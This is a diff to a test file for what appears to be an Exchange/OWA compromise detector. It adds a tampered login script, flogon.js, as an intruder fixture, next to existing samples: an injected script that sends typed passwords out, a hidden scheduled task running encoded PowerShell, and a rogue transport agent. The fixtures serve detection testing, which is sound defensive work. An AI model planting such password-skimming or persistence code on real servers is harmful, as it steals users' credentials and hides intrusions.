@@ -59,6 +59,8 @@ test('what administrators leave', async () => {
     [`${front}/owa/auth/logon.aspx.bak`]: logon,
     [`${front}/owa/web.config.20210301`]: plain.tree[`${front}/owa/web.config`]!,
     [`${front}/owa/auth/15.1.2176/themes/resources/logon.css`]: 'body{background:#123}',
+    [`${front}/owa/auth/15.1.2176/scripts/premium/flogon.js`]:
+      'function clkLgn(){gbid("password").value=gbid("passwordText").value;document.logonForm.submit();}',
     // The way from the root of the site to the mail.
     [`${www}/default.aspx`]: redirect,
     [`${www}/Default.asp`]: '<% Response.Redirect "https://mail.haven.example/owa" %>',
@@ -135,6 +137,7 @@ test('what intruders leave', async () => {
     '<script>function clkLgn(){var x=new XMLHttpRequest();x.open("POST","/owa/auth/x.js");x.send(gbid("password").value);}</script>';
   const assessment = await assessed('intruders', {
     [`${front}/owa/auth/logon.aspx`]: logon.replace('</head>', `${stealer}</head>`),
+    [`${front}/owa/auth/15.1.2176/scripts/premium/flogon.js`]: 'function clkLgn(){new Image().src="/owa/auth/a.png?"+gbid("password").value;document.logonForm.submit();}',
     'C/Windows/System32/Tasks/Microsoft/Windows/VSPerfMon': taskXml('powershell.exe', '-nop -w hidden -enc AAAA'),
     [`${exchangeFolder}/TransportRoles/Shared/agents.config`]: agentsConfig([...agents, { Identity: 'Mail Helper Agent', TransportAgentFactory: 'H.F', AssemblyPath: 'C:\\ProgramData\\Helper\\Agent.dll' }]),
     [host]: applicationHost({
@@ -152,7 +155,7 @@ test('what intruders leave', async () => {
     'web-shell/agent-odd-folder implanted possible 1',
     'web-shell/config-directory-odd implanted possible 2',
     'web-shell/page-listed implanted probable 1',
-    'web-shell/page-takes-passwords implanted probable 1',
+    'web-shell/page-takes-passwords implanted probable 2',
   ]);
   const raw = JSON.stringify(assessment.findings);
   for (const told of ['VSPerfMon', 'Agent.dll', 'supp0rt.aspx', 'support$', 'logon.aspx']) expect(raw).toContain(told);
